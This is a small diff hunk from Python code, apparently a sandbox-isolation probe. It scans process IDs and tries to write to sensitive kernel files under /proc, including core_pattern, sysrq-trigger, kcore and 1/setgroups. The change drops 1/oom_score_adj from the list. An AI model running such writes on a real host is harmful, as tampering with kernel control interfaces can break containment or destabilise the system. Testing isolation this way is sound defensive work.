@@ -16,7 +16,7 @@ for target in (os.getppid(), *range(2, 3000)):
             found.append(f"{target}/{name}")
         except OSError:
             continue
-for name in ("sys/kernel/core_pattern", "sysrq-trigger", "kcore", "1/oom_score_adj", "1/setgroups"):
+for name in ("sys/kernel/core_pattern", "sysrq-trigger", "kcore", "1/setgroups"):
     try:
         with open(f"/proc/{name}", "r+b" if name == "kcore" else "wb") as file:
             file.write(b"0")
